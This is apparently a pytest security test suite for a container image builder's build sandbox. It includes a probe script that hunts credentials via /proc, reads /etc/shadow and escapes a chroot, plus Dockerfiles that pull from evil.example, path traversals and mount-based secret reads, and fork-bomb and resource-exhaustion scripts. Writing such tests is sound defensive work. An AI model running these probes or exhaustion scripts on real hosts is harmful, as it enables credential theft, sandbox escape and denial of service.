"""What a hostile Dockerfile can reach: nothing of the host. The same build without the jail reaches all of it."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import socket
import subprocess
import sys
import zlib
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from towline.events import Outcome, Purpose
from towline.snapshot import SYMLINK, Entry, tree_id
from towline_cli import lab
from towline_image_builder.settings import ImageBuilderSettings, Limits, PushRegistry
from towline_image_builder.testing import Workshop, workshop

pytestmark = [pytest.mark.lab, pytest.mark.timeout(300)]
WORD = "towline-test-credential-7f3a"

PROBE = r"""
import json, os, socket, sys
target = json.load(open("/target.json"))
found = set()

def roots():
    yield ""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        yield f"/proc/{pid}/root"

def look(root):
    try:
        if target["word"] in open(root + target["file"]).read():
            found.add("file")
    except OSError:
        pass
    try:
        if target["shadow"] in open(root + "/etc/shadow").read():
            found.add("shadow")
    except OSError:
        pass
    try:
        with open(root + target["folder"] + "/written", "w"):
            found.add("write")
    except OSError:
        pass

for root in roots():
    look(root)
for pid in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline"):
        try:
            if target["word"] in open(f"/proc/{pid}/{name}", errors="replace").read():
                found.add(name)
        except OSError:
            pass
for name, port in target["ports"].items():
    for host in target["hosts"]:
        try:
            socket.create_connection((host, port), timeout=2).close()
            found.add(name)
        except OSError:
            pass
try:
    os.kill(target["pid"], 0)
    found.add("signal")
except OSError:
    pass
if target["word"] in json.dumps(dict(os.environ)):
    found.add("own environment")
try:  # the way out of a chroot
    os.makedirs("/deeper", exist_ok=True)
    os.chroot("/deeper")
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    look("")
except OSError:
    pass
print("FOUND " + json.dumps(sorted(found)))
"""
EVERYTHING = ["cmdline", "environ", "file", "network", "registry", "shadow", "signal", "write"]


@dataclass(frozen=True)
class Target:
    """What there is to find on this host."""

    files: dict[str, str]
    folder: Path


@pytest.fixture(scope="session")
def bases(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("image-builder-bases")


@pytest.fixture
def target(lab_instance: lab.Instance, tmp_path: Path) -> Iterator[Target]:
    """A credential in a file and in a process's environment and arguments, a server, the registry."""
    folder = tmp_path / "host"
    folder.mkdir()
    secret = folder / "password"
    secret.write_text(f"{WORD}\n")
    victim = subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(600)", WORD], env={"REGISTRY_PASSWORD": WORD}
    )
    listening = socket.create_server(("0.0.0.0", 0))
    about = {
        "word": WORD,
        "file": str(secret),
        "shadow": next(line for line in Path("/etc/shadow").read_text().splitlines() if line.startswith("towline")),
        "folder": str(folder),
        "pid": victim.pid,
        "hosts": ["127.0.0.1", *_addresses()],
        "ports": {
            "network": listening.getsockname()[1],
            "registry": int(lab_instance.registry.rpartition(":")[2]),
        },
    }
    dockerfile = f"FROM {lab_instance.base_image}\nCOPY probe.py target.json /\nRUN python3 /probe.py\n"
    try:
        yield Target({"Dockerfile": dockerfile, "probe.py": PROBE, "target.json": json.dumps(about)}, folder)
    finally:
        victim.kill()
        victim.wait()
        listening.close()


def _addresses() -> list[str]:
    done = subprocess.run(["hostname", "--all-ip-addresses"], capture_output=True, text=True, check=False)
    return done.stdout.split()


def settings_of(lab_instance: lab.Instance, tmp_path: Path, **limits: object) -> ImageBuilderSettings:
    """With a login, whose password is what the probe looks for; the lab's registry asks for none."""
    prefix = f"t{hashlib.sha256(str(tmp_path).encode()).hexdigest()[:12]}/"
    password = tmp_path / "host" / "password"
    registry = PushRegistry(address=lab_instance.registry, prefix=prefix, user="towline", password_file=password)
    return ImageBuilderSettings(registry=registry, limits=Limits.model_validate(limits))


@pytest.fixture
async def shop(lab_instance: lab.Instance, tmp_path: Path, bases: Path) -> AsyncIterator[Workshop]:
    async with workshop(settings_of(lab_instance, tmp_path), tmp_path, bases=bases) as running:
        yield running


async def test_a_run_finds_nothing_of_the_host(shop: Workshop, target: Target, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("REGISTRY_PASSWORD", WORD)
    end = await shop.build(target.files, Purpose.GATE)

    assert end.outcome is Outcome.SUCCESS, end.problems
    assert "FOUND []" in shop.output(end)
    assert not (target.folder / "written").exists()


def test_the_same_run_without_the_jail_finds_everything(
    target: Target, lab_instance: lab.Instance, tmp_path: Path
) -> None:
    context = tmp_path / "context"
    context.mkdir()
    store = ["--root", str(tmp_path / "root"), "--runroot", str(tmp_path / "run"), "--storage-driver", "vfs"]
    policy = tmp_path / "policy.json"
    policy.write_text('{"default": [{"type": "insecureAcceptAnything"}]}')
    anything = ["--signature-policy", str(policy)]
    pull = ["buildah", *store, "pull", *anything, "--quiet", "--tls-verify=false", lab_instance.base_image]
    try:
        base = subprocess.run(pull, capture_output=True, text=True, check=True).stdout.strip()
        for name, text in target.files.items():
            (context / name).write_text(text.replace(lab_instance.base_image, base))
        build = [
            "buildah",
            *store,
            "bud",
            *anything,
            "--cap-add",
            "all",
            "--isolation",
            "chroot",
            "--tag",
            "x",
            str(context),
        ]
        done = subprocess.run(build, capture_output=True, text=True, check=False)
    finally:
        shutil.rmtree(tmp_path / "root", ignore_errors=True)

    assert f"FOUND {json.dumps(EVERYTHING)}" in done.stdout, done.stdout + done.stderr


async def test_a_run_is_nobody_outside_and_holds_no_privilege_there(shop: Workshop, lab_instance: lab.Instance) -> None:
    run = "cat /proc/self/uid_map; grep NoNewPrivs /proc/self/status; ls /sys /proc/1/root 2>&1; true"
    end = await shop.build({"Dockerfile": f"FROM {lab_instance.base_image}\nRUN {run}\n"})

    said = shop.output(end)
    outer = int(said.partition("0 ")[2].split()[0])
    assert outer not in (0, os.getuid())
    assert "NoNewPrivs:\t1" in said


@pytest.mark.parametrize(
    ("dockerfile", "line", "said"),
    [
        ("FROM {base}\nADD http://127.0.0.1:{port}/v2/ /x\n", 2, "a build has no network"),
        ("FROM {base}\nADD https://example.com/x /x\n", 2, "a build has no network"),
        ("FROM {base}\nARG U=http://127.0.0.1:{port}/v2/\nADD $U /x\n", 3, "127.0.0.1"),
        ("FROM {base}\nCOPY --from=evil.example/tools:1 /x /x\n", 2, "is not allowed"),
        ("FROM {base}\nRUN --mount=type=bind,from=evil.example/tools,target=/x true\n", 2, "is not allowed"),
        ("# syntax=evil.example/frontend:1\nFROM {base}\n", 1, "frontend"),
        ("FROM {base} AS a\nONBUILD ADD http://127.0.0.1:{port}/ /x\nFROM a\n", 2, "a build has no network"),
        ("FROM {base}\nRUN --mount=type=secret,id=registry,required=true cat /run/secrets/registry\n", 2, ""),
        ("FROM {base}\nRUN --mount=type=ssh,required=true env\n", 2, ""),
        ("FROM {base}\nCOPY ../../../../etc/shadow /x\n", 2, ""),
        ("FROM {base}\nCOPY /etc/shadow /x\n", 2, ""),
        ("FROM oci:/bases/0\nRUN true\n", 1, "is no image reference"),
        ("FROM dir:/etc\nRUN true\n", 1, ""),
        ("FROM {base}\nCOPY --from=oci:/build /x /x\n", 2, "is no image reference"),
    ],
)
async def test_what_reaches_out_is_refused(
    shop: Workshop, lab_instance: lab.Instance, dockerfile: str, line: int | None, said: str
) -> None:
    port = lab_instance.registry.rpartition(":")[2]
    end = await shop.build({"Dockerfile": dockerfile.format(base=lab_instance.base_image, port=port), "a": ""})

    assert end.outcome is Outcome.FAILURE
    assert end.problems[0].line == line, end.problems
    assert said in end.problems[0].message


async def test_a_mount_from_above_the_context_shows_the_jail_only(shop: Workshop, lab_instance: lab.Instance) -> None:
    run = "--mount=type=bind,source=/../../../../../etc,target=/x cat /x/shadow"
    end = await shop.build({"Dockerfile": f"FROM {lab_instance.base_image}\nRUN {run}\n"})

    assert end.outcome is Outcome.FAILURE
    assert "root:" not in shop.output(end)


async def test_a_link_out_of_the_tree_is_never_written(shop: Workshop, lab_instance: lab.Instance) -> None:
    entries = [
        Entry("Dockerfile", "100644", f"FROM {lab_instance.base_image}\nCOPY a /a\n".encode()),
        Entry("a", SYMLINK, b"/etc/shadow"),
    ]
    raw = b"".join(
        b"%s %d %d\n%s%s" % (each.mode.encode(), len(each.path), len(each.content), each.path.encode(), each.content)
        for each in entries
    )
    asked = await shop.ask_for(tree_id(entries), zlib.compress(b"towline-snapshot 1\n" + raw))
    end = await shop.finished(asked)

    assert end.outcome is Outcome.FAILURE
    assert "/etc/shadow" in end.problems[0].message
    assert "outside of the tree" in end.problems[0].message


FORKS = "import os\nwhile True:\n    os.fork()"
EATS = "b = [bytes(64 << 20).replace(b'\\0', b'x') for _ in range(64)]"
WRITES = "f = open('/big', 'wb')\nwhile True:\n    f.write(bytes(1 << 20))"
MANY = "import os\nfor n in range(10**6):\n    open(f'/f{n}', 'wb').write(bytes(1 << 20))"


@pytest.mark.parametrize(
    ("script", "limits", "said"),
    [
        (FORKS, {"processes": 64}, "the limit of 64 processes"),
        (EATS, {"memory_mib": 256}, "the memory limit of 256 MiB"),
        ("import time; time.sleep(600)", {"seconds": 3}, "the time limit of 3 s"),
        (WRITES, {"disk_mib": 64}, ""),
        (MANY, {"disk_mib": 64}, "the disk limit of 64 MiB"),
    ],
)
async def test_a_limit_ends_the_build_and_is_named(
    lab_instance: lab.Instance, tmp_path: Path, bases: Path, script: str, limits: dict[str, object], said: str
) -> None:
    files = {"Dockerfile": f"FROM {lab_instance.base_image}\nCOPY x.py /\nRUN python3 /x.py\n", "x.py": script}
    async with workshop(settings_of(lab_instance, tmp_path, **limits), tmp_path, bases=bases) as shop:
        end = await shop.build(files)
        again = await shop.build({"Dockerfile": f"FROM {lab_instance.base_image}\nRUN true\n"})

    assert end.outcome is Outcome.FAILURE
    assert (end.problems[0].file, end.problems[0].line) == ("Dockerfile", 3), end.problems
    assert said in end.problems[0].message
    assert again.outcome is Outcome.SUCCESS, again.problems


async def test_output_without_end_is_kept_at_both_ends(lab_instance: lab.Instance, tmp_path: Path, bases: Path) -> None:
    run = "yes 0123456789 | head -c 20000000; echo the end"
    async with workshop(settings_of(lab_instance, tmp_path, log_kib=64), tmp_path, bases=bases) as shop:
        end = await shop.build({"Dockerfile": f"FROM {lab_instance.base_image}\nRUN {run}\n"})

    said = shop.output(end)
    assert end.outcome is Outcome.SUCCESS, end.problems
    assert len(said) < 200_000
    assert said.startswith("STEP 1/2")
    assert "left out" in said
    assert "the end\n" in said


async def test_an_image_that_is_too_large_is_refused(lab_instance: lab.Instance, tmp_path: Path, bases: Path) -> None:
    settings = settings_of(lab_instance, tmp_path, image_mib=160)
    run = "head -c 100000000 /dev/urandom > /big"
    async with workshop(settings, tmp_path, bases=bases) as shop:
        end = await shop.build({"Dockerfile": f"FROM {lab_instance.base_image}\nRUN {run}\n"})

    assert end.outcome is Outcome.FAILURE
    assert "limits.image_mib" in end.problems[0].message
